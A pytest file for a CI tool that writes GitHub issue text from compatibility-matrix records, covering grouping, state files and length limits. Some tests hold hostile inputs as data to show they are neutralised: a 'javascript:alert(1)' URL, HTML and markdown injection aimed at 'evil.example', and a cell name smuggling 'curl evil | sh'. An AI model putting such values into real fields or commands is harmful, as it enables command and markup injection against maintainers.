"""The issue of a project: what it says of findings, and that no text of a record acts in it."""

from __future__ import annotations

import os
import re
from dataclasses import replace
from pathlib import Path

import pytest

import histories
from ci_tables import failed, make, passed, table
from command import matrix
from matrix.qualify.table_watch import TableDelta, follow_table
from matrix.record.model import Case, Record
from matrix.record.writer import to_json
from matrix.report.ci_issue import BODY_LIMIT, WATCH_MARK, issue, line, outputs
from matrix.verdict.table import Table

CELL, OTHER = "py311-torch210-vllm019", "py312-torch210-vllm019"
RUN = "https://github.com/owner/name/actions/runs/17"


def on(day: int, made: tuple[Path, Record]) -> tuple[Path, Record]:
    """Return the record as of a run on that day of November."""
    path, record = made
    started = f"2026-11-{day:02}T18:00:00Z"
    return path, replace(record, provenance={**record.provenance, "started": started})


def night(day: int, *records: tuple[Path, Record]) -> Table:
    return table(*(on(day, made) for made in records))


def watched(*nights: Table) -> tuple[TableDelta, Table]:
    delta = follow_table(None, nights[0])
    for later in nights[1:]:
        delta = follow_table(delta.watched, later)
    return delta, nights[-1]


GOOD = night(1, make(CELL, passed("moe[1]")), make(OTHER, passed("moe[1]"), passed("small[a]")))
BAD = night(2, make(CELL, failed()), make(OTHER, failed(), passed("small[a]", saved=1)))


def test_what_is_new_is_grouped_by_what_it_shows() -> None:
    made = issue(*watched(GOOD, BAD), RUN)
    assert made.title == "Compatibility matrix: 4 findings not closed, 4 of them new"
    assert made.body == (
        f"{WATCH_MARK}\n"
        "Since the records of 2026-11-01: 2 cells with a new record; 4 new.\n\n"
        f"The run: {RUN}\n"
        "\n## New: 4\n\n"
        "- **KeyError: 'x' of pid &lt;pid&gt; &#64; vllm/config.py:load**\n"
        "  - `py311-torch210-vllm019` on cpu (torch 2.10.0+cu128, vLLM 0.19.1): `moe[1]`,"
        " since 2026-11-02\n"
        "  - `py312-torch210-vllm019` on cpu (torch 2.10.0+cu128, vLLM 0.19.1): `moe[1]`,"
        " since 2026-11-02\n"
        "- **drift of cold num\\_compiled\\_artifacts\\_saved**\n"
        "  - `py312-torch210-vllm019` on cpu (torch 2.10.0+cu128, vLLM 0.19.1): `small[a]`,"
        " since 2026-11-02\n"
        "- **drift of warm num\\_compiled\\_artifacts\\_saved**\n"
        "  - `py312-torch210-vllm019` on cpu (torch 2.10.0+cu128, vLLM 0.19.1): `small[a]`,"
        " since 2026-11-02\n"
        "\n## Commands\n\n```console\n"
        "tox -e py311-torch210-vllm019 -- --platform cpu\n"
        "tox -e py312-torch210-vllm019 -- --platform cpu\n"
        "```\n"
    )
    assert "## New: 4" in made.comment
    assert "## Commands" not in made.comment


def test_what_is_still_there_silent_and_not_asked_has_its_part() -> None:
    third = night(3, make(CELL, failed(), passed("small[b]")))
    both = table(*[(Path(entry.file), entry.record) for entry in (*third.entries, BAD.entries[1])])
    made = issue(*watched(GOOD, BAD, both))
    assert "## Still there: 1\n" in made.body
    assert "<summary>Not asked: 3</summary>" in made.body
    assert made.title == "Compatibility matrix: 4 findings not closed"
    assert made.comment == ""
    silent = night(4, *[(Path(entry.file), entry.record) for entry in GOOD.entries])
    once = watched(GOOD, BAD, both, silent)
    assert "## Silent once: 4\n" in issue(*once).body
    gone = night(5, *[(Path(entry.file), entry.record) for entry in GOOD.entries])
    made = issue(*watched(GOOD, BAD, both, silent, gone))
    assert made.title == "Compatibility matrix: 0 findings not closed"
    assert "## Silent twice, closed: 4\n" in made.comment
    assert "## Commands" not in made.body


def test_what_was_there_before_the_watch_is_folded() -> None:
    made = issue(*watched(BAD))
    assert made.title == "Compatibility matrix: 0 findings not closed"
    assert "<details><summary>Older than the watch: 4</summary>" in made.body
    assert made.comment == ""
    assert line(watched(BAD)[0]) == (
        "The watch began: 2 cells with a new record; 4 older than the watch.\n"
    )


def test_a_table_without_findings_says_so() -> None:
    delta, now = watched(GOOD)
    assert line(delta) == "The watch began: 2 cells with a new record; no findings.\n"
    assert outputs(delta) == "regressed=false\nopen=0\nasked=2\n"
    assert outputs(watched(GOOD, BAD)[0]) == "regressed=true\nopen=4\nasked=2\n"
    assert issue(delta, now).body.startswith(WATCH_MARK)


@pytest.mark.parametrize(
    "run",
    [None, "", "javascript:alert(1)", f"{RUN}\n@owner", "https://x/y", f"{RUN} [x](https://evil)"],
)
def test_only_the_address_of_a_run_is_named(run: str | None) -> None:
    assert "The run" not in issue(*watched(GOOD, BAD), run).body


def test_no_text_of_a_record_becomes_markup_a_link_or_a_mention() -> None:
    evil = (
        "KeyError: </details> <img src=x> @owner [x](https://evil.example) `c` #1 ``` | ::error::x"
    )
    case = failed("moe[`@team`](https://evil.example)", reason=evil, failure=evil)
    made = issue(*watched(GOOD, night(2, make(CELL, case))))
    for text in (made.body, made.comment, made.title):
        for bad in ("<img", "@owner", "@team", "\n::error", "https://evil"):
            assert bad not in text
        assert not re.search(r"(?<!\\)\]\(", text)
    # Only the two that we wrote.
    assert made.body.count("</details>") == made.body.count("<details>")


def test_a_state_that_somebody_changed_puts_no_command_into_the_issue() -> None:
    delta, now = watched(GOOD, BAD)
    evil = [
        change._replace(
            now=replace(
                change.now,
                key=change.now.key._replace(
                    place=change.now.key.place._replace(cell="x; curl evil | sh\n```")
                ),
            )
        )
        for change in delta.changes[:1]
    ]
    body = issue(replace(delta, changes=(*evil, *delta.changes[1:])), now).body
    assert "curl" not in body.partition("## Commands")[2]
    assert "tox -e py312-torch210-vllm019 -- --platform cpu" in body.partition("## Commands")[2]


def test_a_long_text_ends_below_the_limit() -> None:
    cases = [
        failed(f"moe[{number}]", reason=f"Error{number}: {'x' * 300}", failure=None)
        for number in range(400)
    ]
    made = issue(*watched(GOOD, night(2, make(CELL, *cases))))
    for text in (made.body, made.comment):
        assert len(text) <= BODY_LIMIT
        assert text.endswith("The rest was left out: GitHub accepts no longer text.*\n")


def recorded(day: int, case: Case) -> Record:
    """Return a record that a reader takes."""
    return histories.make(CELL, started=f"2026-11-{day:02}T18:00:00Z", cases=(case,))


def put(folder: Path, record: Record) -> None:
    there = folder / record.platform / f"{record.cell}.{record.started[:10]}.json"
    there.parent.mkdir(parents=True, exist_ok=True)
    there.write_text(to_json(record))


def test_the_command_keeps_the_state_and_writes_the_issue(tmp_path: Path) -> None:
    put(tmp_path / "records", recorded(1, passed("small_startup[dense]")))
    asked = ("watch", "--state", "state/table.json")
    done = matrix(tmp_path, *asked)
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout.startswith("The watch began: 1 cell with a new record")
    put(tmp_path / "records", recorded(2, failed("small_startup[dense]")))
    given = {
        "GITHUB_OUTPUT": str(tmp_path / "outputs"),
        "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_REPOSITORY": "owner/name",
        "GITHUB_RUN_ID": "17",
    }
    done = matrix(tmp_path, *asked, "--issue", "issue", **given)
    assert (done.returncode, done.stderr) == (0, "")
    assert (tmp_path / "outputs").read_text() == "regressed=true\nopen=1\nasked=1\n"
    assert (tmp_path / "issue" / "title.txt").read_text() == (
        "Compatibility matrix: 1 finding not closed, 1 of them new\n"
    )
    assert RUN in (tmp_path / "issue" / "body.md").read_text()
    assert "New: 1" in (tmp_path / "issue" / "comment.md").read_text()
    before = (tmp_path / "state" / "table.json").read_bytes()
    assert "0 cells with a new record; 1 not asked, " in matrix(tmp_path, *asked).stdout
    assert (tmp_path / "state" / "table.json").read_bytes() == before


def test_what_could_not_be_handed_over_is_new_the_next_time(tmp_path: Path) -> None:
    put(tmp_path / "records", recorded(1, passed("small_startup[dense]")))
    asked = ("watch", "--state", "table.json")
    matrix(tmp_path, *asked)
    put(tmp_path / "records", recorded(2, failed("small_startup[dense]")))
    refused = matrix(tmp_path, *asked, GITHUB_OUTPUT=str(tmp_path))
    assert refused.returncode == 2
    assert refused.stderr == f"matrix: {tmp_path}: Is a directory\n"
    outputs = tmp_path / "outputs"
    assert matrix(tmp_path, *asked, GITHUB_OUTPUT=str(outputs)).returncode == 0
    assert outputs.read_text() == "regressed=true\nopen=1\nasked=1\n"


def test_a_damaged_state_ends_in_one_line(tmp_path: Path) -> None:
    put(tmp_path / "records", recorded(1, passed()))
    (tmp_path / "table.json").write_text("{")
    done = matrix(tmp_path, "watch", "--state", "table.json")
    assert done.returncode == 2
    assert done.stderr == "matrix: table.json: is not JSON; move it away to begin again\n"
    (tmp_path / "table.json").unlink()
    os.mkfifo(tmp_path / "table.json")
    assert matrix(tmp_path, "watch", "--state", "table.json").returncode == 2


@pytest.mark.parametrize("named", [(), ("records",), ("elsewhere", "records/cpu/../cpu")])
def test_a_state_among_the_records_is_refused(tmp_path: Path, named: tuple[str, ...]) -> None:
    """It would be a bad record for whoever reads that folder next."""
    (tmp_path / "records" / "cpu").mkdir(parents=True)
    ended = matrix(tmp_path, "watch", *named, "--state", "records/cpu/table.json")
    assert ended.returncode == 2 and "among records; keep it outside" in ended.stderr
    assert not (tmp_path / "records" / "cpu" / "table.json").exists()
